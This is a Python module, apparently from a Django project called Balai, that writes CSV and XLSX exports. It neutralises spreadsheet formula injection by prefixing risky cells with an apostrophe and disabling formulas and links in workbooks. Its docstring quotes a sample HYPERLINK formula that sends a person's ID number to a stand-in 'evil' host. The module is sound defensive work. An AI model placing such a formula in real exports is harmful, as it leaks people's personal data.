"""Every CSV and XLSX that Balai hands out is written here, with the formula guard always on.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by
Excel and LibreOffice when the file is opened (`=HYPERLINK("http://evil/?"&A2)` sends the NIK
next to it away). Such text gets a leading apostrophe, which spreadsheets show as text; plain
numbers ("-12", "+6281234567890") cannot be formulas and stay as they are. CSVs start with a
UTF-8 byte-order mark so Excel reads "Kelurahan Bojong Ñ" correctly; XLSX workbooks never turn
strings into formulas or links.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import IO, Any

import xlsxwriter
from django.http import HttpResponse
from django.utils.cache import patch_cache_control

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%")
FORMULA_START = _TRIGGERS  # text that does not start so is safe as it is (a fast path)
_NUMBER = re.compile(r"^[+-]?(\d+([.,]\d+)*|\d*[.,]\d+)$")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet may show it without running it."""
    if isinstance(value, str) and value.startswith(_TRIGGERS) and not _NUMBER.match(value):
        return "'" + value
    return value


def csv_write(stream: IO[str], rows: Iterable[Sequence[Any]], *, delimiter: str = ",") -> None:
    writer = csv.writer(stream, delimiter=delimiter, lineterminator="\r\n")
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])


def csv_bytes(rows: Iterable[Sequence[Any]], *, delimiter: str = ",") -> bytes:
    out = io.StringIO()
    out.write("\ufeff")
    csv_write(out, rows, delimiter=delimiter)
    return out.getvalue().encode("utf-8")


def attachment(response: HttpResponse, filename: str, *, personal: bool) -> HttpResponse:
    """Name the download; a file with personal data is never stored by a browser or proxy."""
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    if personal:
        patch_cache_control(response, private=True, no_store=True, max_age=0)
    return response


def csv_response(
    filename: str, rows: Iterable[Sequence[Any]], *, personal: bool, delimiter: str = ","
) -> HttpResponse:
    """A CSV download: header first in `rows`. `personal` for anything with personal data."""
    response = HttpResponse(
        csv_bytes(rows, delimiter=delimiter), content_type="text/csv; charset=utf-8"
    )
    return attachment(response, filename, personal=personal)


def xlsx_workbook(target: IO[bytes] | str, **options: Any) -> xlsxwriter.Workbook:
    """A workbook that writes text as text: never a formula, never a link."""
    options = {"strings_to_formulas": False, "strings_to_urls": False, **options}
    if isinstance(target, str):
        return xlsxwriter.Workbook(target, options)
    return xlsxwriter.Workbook(target, {"in_memory": True, **options})


def xlsx_bytes(
    sheets: dict[str, Iterable[Sequence[Any]]], *, widths: dict[int, int] | None = None
) -> bytes:
    """A simple workbook: one sheet per name, header row in bold, text written as text."""
    out = io.BytesIO()
    book = xlsx_workbook(out)
    bold = book.add_format({"bold": True})
    for name, rows in sheets.items():
        sheet = book.add_worksheet(name[:31])
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                sheet.write(r, c, value, bold if r == 0 else None)
        for col, width in (widths or {}).items():
            sheet.set_column(col, col, width)
    book.close()
    return out.getvalue()


def xlsx_response(filename: str, content: bytes, *, personal: bool) -> HttpResponse:
    return attachment(HttpResponse(content, content_type=XLSX_TYPE), filename, personal=personal)
